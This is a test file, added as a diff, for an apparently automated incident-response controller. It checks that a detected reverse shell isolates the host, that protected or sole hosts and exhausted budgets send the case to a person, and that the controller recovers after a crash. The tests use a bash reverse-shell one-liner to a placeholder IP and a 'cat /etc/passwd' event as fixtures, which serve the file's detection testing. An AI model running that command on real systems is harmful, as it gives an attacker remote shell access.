@@ -1,0 +1,259 @@
+import { FakeClock } from '@firebreak/shared/clock.fake.ts'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import type { StateStore } from '../store/state/state-store.ts'
+import { processEvent, Rig, type RigOptions, Site } from './story.rig.ts'
+
+const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
+
+let site: Site
+let clock: FakeClock
+let rig: Rig | undefined
+
+beforeEach(() => {
+  site = new Site()
+  clock = new FakeClock()
+})
+afterEach(async () => {
+  await rig?.stop()
+  rig = undefined
+  site.forget()
+})
+
+async function open(options: RigOptions = {}): Promise<Rig> {
+  rig = await Rig.open(site, clock, options)
+  return rig
+}
+async function started(options: RigOptions = {}): Promise<Rig> {
+  const opened = await open(options)
+  await opened.start()
+  return opened
+}
+const incidents = (rig: Rig) => rig.store.db.selectFrom('incidents').selectAll().orderBy('created_at').execute()
+const commands = (rig: Rig) => rig.store.db.selectFrom('commands').selectAll().execute()
+const steps = async (rig: Rig) =>
+  (await rig.store.db.selectFrom('run_steps').selectAll().orderBy('n').execute()).map((row) => [row.step_id, row.state])
+
+describe('from an event to an order', () => {
+  it('orders the isolation of a host on which a reverse shell starts, and marks the incident contained once it is proved', async () => {
+    const rig = await started()
+    const host = await rig.host('web-1')
+    await rig.commit(host, [processEvent(clock, 'ls'), processEvent(clock, SHELL)])
+    await rig.settle()
+
+    const [incident] = await incidents(rig)
+    expect(incident).toMatchObject({
+      title: 'Reverse Shell Over Bash on web-1',
+      severity: 'critical',
+      decision: 'act',
+      route: 'act',
+      status: 'open',
+      techniques: '["T1059.004"]',
+    })
+    expect(incident?.confidence).toBeGreaterThanOrEqual(85)
+    expect(await commands(rig)).toMatchObject([
+      {
+        agent_id: host,
+        type: 'isolate-host',
+        args: '{"hold_s":14400,"on_controller_loss":"release"}',
+        actor: 'playbook:contain-host',
+        incident_id: incident?.id,
+      },
+    ])
+    expect(await rig.run()).toMatchObject({ state: 'waiting', playbook_id: 'contain-host', agent_id: host })
+
+    await rig.orders.become('verified')
+    await rig.settle()
+    expect(await rig.run()).toMatchObject({ state: 'succeeded' })
+    expect((await incidents(rig))[0]).toMatchObject({ status: 'contained', route: 'act' })
+    expect(await steps(rig)).toEqual([
+      ['not-protected', 'succeeded'],
+      ['not-last-of-its-kind', 'succeeded'],
+      ['within-budget', 'succeeded'],
+      ['isolate', 'succeeded'],
+      ['contained', 'succeeded'],
+    ])
+    expect(await rig.audit.verify()).toMatchObject({ ok: true })
+  })
+
+  it('never cuts off a protected host: the run is refused and a person is asked, with the reason', async () => {
+    const rig = await started()
+    await rig.commit(await rig.host('dc-1', { protected: true }), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await commands(rig)).toEqual([])
+    expect(await rig.run()).toMatchObject({ state: 'refused' })
+    expect((await incidents(rig))[0]).toMatchObject({ decision: 'act', route: 'ask', status: 'open' })
+    expect((await incidents(rig))[0]?.escalated_why).toContain('dc-1: the host is protected')
+  })
+
+  it('asks a person about a rule of medium level, however often it matches', async () => {
+    const rig = await started()
+    const host = await rig.host('web-1')
+    for (let i = 0; i < 20; i++) {
+      await rig.commit(host, [processEvent(clock, 'cat /etc/passwd')])
+      await clock.advance(1000)
+    }
+    await rig.settle()
+    expect(await incidents(rig)).toMatchObject([{ severity: 'medium', route: 'ask' }])
+    expect(await commands(rig)).toEqual([])
+    expect(await rig.run()).toBeUndefined()
+  })
+
+  it('makes one alert, one incident and one order of the same thing seen again', async () => {
+    const rig = await started()
+    const host = await rig.host('web-1')
+    for (let i = 0; i < 5; i++) {
+      await rig.commit(host, [processEvent(clock, SHELL), processEvent(clock, SHELL)])
+      await rig.settle()
+    }
+    expect(await rig.store.db.selectFrom('alerts').select('signal_count').execute()).toEqual([{ signal_count: 10 }])
+    expect(await incidents(rig)).toHaveLength(1)
+    expect(await commands(rig)).toHaveLength(1)
+  })
+
+  it('asks a person when the isolation is refuted, and does not say contained', async () => {
+    const rig = await started()
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    await rig.orders.become('refuted', 'effect_refuted')
+    await rig.settle()
+    expect(await rig.run()).toMatchObject({ state: 'failed' })
+    const [incident] = await incidents(rig)
+    expect(incident).toMatchObject({ status: 'open', route: 'ask' })
+    expect(incident?.escalated_why).toContain('isolate-host ended refuted (effect_refuted)')
+  })
+
+  it('calls an incident contained only when every host of it is', async () => {
+    const rig = await started()
+    for (const name of ['web-1', 'web-2']) await rig.commit(await rig.host(name), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await incidents(rig)).toMatchObject([{ title: 'Reverse Shell Over Bash on web-1 and 1 more host' }])
+    const [first] = await commands(rig)
+    await rig.store.write((tx) =>
+      tx.updateTable('commands').set({ state: 'verified' }).where('id', '=', String(first?.id)).execute(),
+    )
+    await clock.advance(31_000)
+    await rig.settle()
+    expect(await incidents(rig)).toMatchObject([{ status: 'open' }])
+    await rig.orders.become('verified')
+    await rig.settle()
+    expect(await incidents(rig)).toMatchObject([{ status: 'contained' }])
+  })
+
+  it('stops at the hourly budget and hands the rest to a person', async () => {
+    const rig = await started({
+      respond: { budgets_per_hour: { 'isolate-host': 2, 'release-host': 0, 'kill-process': 0 } },
+    })
+    for (const name of ['a', 'b', 'c', 'd']) await rig.commit(await rig.host(name), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await commands(rig)).toHaveLength(2)
+    expect((await incidents(rig))[0]?.escalated_why).toContain(
+      '2 of 2 automatic isolate-host within an hour are used up',
+    )
+  })
+
+  it('does not take the last connected host of a role away', async () => {
+    const rig = await started()
+    const only = await rig.host('db-1', { tags: ['role:db'] })
+    await rig.host('db-2', { tags: ['role:db'], connected: false })
+    await rig.commit(only, [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await commands(rig)).toEqual([])
+    expect((await incidents(rig))[0]?.escalated_why).toContain('no other connected host does the work of this one')
+  })
+
+  it('hands an incident to a person when playbooks are switched off', async () => {
+    const rig = await started({ respond: { automatic: false } })
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await commands(rig)).toEqual([])
+    expect(await incidents(rig)).toMatchObject([{ route: 'ask', escalated_why: 'automatic response is switched off' }])
+  })
+
+  it('takes a storm of 10,000 signals of one rule as one alert, one incident, one run', async () => {
+    const rig = await started()
+    const host = await rig.host('web-1')
+    for (let batch = 0; batch < 20; batch++) {
+      const events = Array.from({ length: 500 }, (_, index) =>
+        processEvent(clock, `${SHELL} # ${batch * 500 + index}`, { entity_id: `boot-${batch}-${index}` }),
+      )
+      await rig.commit(host, events)
+    }
+    await rig.settle()
+    expect(await rig.store.db.selectFrom('alerts').select('signal_count').execute()).toEqual([{ signal_count: 10_000 }])
+    expect(await incidents(rig)).toHaveLength(1)
+    expect(await commands(rig)).toHaveLength(1)
+    expect(await rig.store.db.selectFrom('runs').select('id').execute()).toHaveLength(1)
+  }, 60_000)
+})
+
+/** A process that dies at its n-th commit: before it is durable, or right after. Nothing is written any more. */
+function dyingStore(store: StateStore, at: number, when: 'before' | 'after', died: () => void): StateStore {
+  let commits = 0
+  let dead = false
+  return {
+    db: store.db,
+    healthy: () => !dead,
+    close: () => store.close(),
+    async write(work) {
+      if (dead) return await new Promise<never>(() => undefined)
+      commits++
+      if (commits < at) return await store.write(work)
+      dead = true
+      if (when === 'after') await store.write(work)
+      died()
+      return await new Promise<never>(() => undefined)
+    },
+  }
+}
+
+describe('a controller that dies', () => {
+  it('at any commit between the event and the end of the run orders exactly one isolation and completes the run', async () => {
+    let tried = 0
+    for (const when of ['before', 'after'] as const) {
+      for (let at = 1; at <= 40; at++) {
+        const place = new Site()
+        try {
+          const first = await Rig.open(place, clock)
+          const host = await first.host('web-1')
+          await first.store.close()
+          const died = Promise.withResolvers<'died'>()
+          const doomed = await Rig.open(place, clock, {
+            wrapStore: (store) => dyingStore(store, at, when, () => died.resolve('died')),
+          })
+          await doomed.start()
+          await doomed.commit(host, [processEvent(clock, SHELL)])
+          const story = (async () => {
+            await doomed.settle()
+            await doomed.orders.become('verified')
+            await doomed.settle()
+            return 'lived' as const
+          })()
+          const end = await Promise.race([story, died.promise])
+          if (end === 'lived') {
+            await doomed.stop()
+            break
+          }
+          tried++
+          await doomed.store.close()
+
+          const second = await Rig.open(place, clock)
+          await second.start()
+          await second.settle()
+          await second.orders.become('verified')
+          await second.settle()
+          const label = `${when} commit ${at}`
+          expect(await commands(second), label).toHaveLength(1)
+          expect(await second.run(), label).toMatchObject({ state: 'succeeded' })
+          expect(await incidents(second), label).toMatchObject([{ status: 'contained' }])
+          expect(await second.store.db.selectFrom('signals').select('id').execute(), label).toHaveLength(1)
+          expect(await second.audit.verify(), label).toMatchObject({ ok: true })
+          await second.stop()
+        } finally {
+          place.forget()
+        }
+      }
+    }
+    // Detection, start of the run, guards and budget, order, waiting, command, end: each before and after.
+    expect(tried).toBeGreaterThanOrEqual(12)
+  }, 120_000)
+})
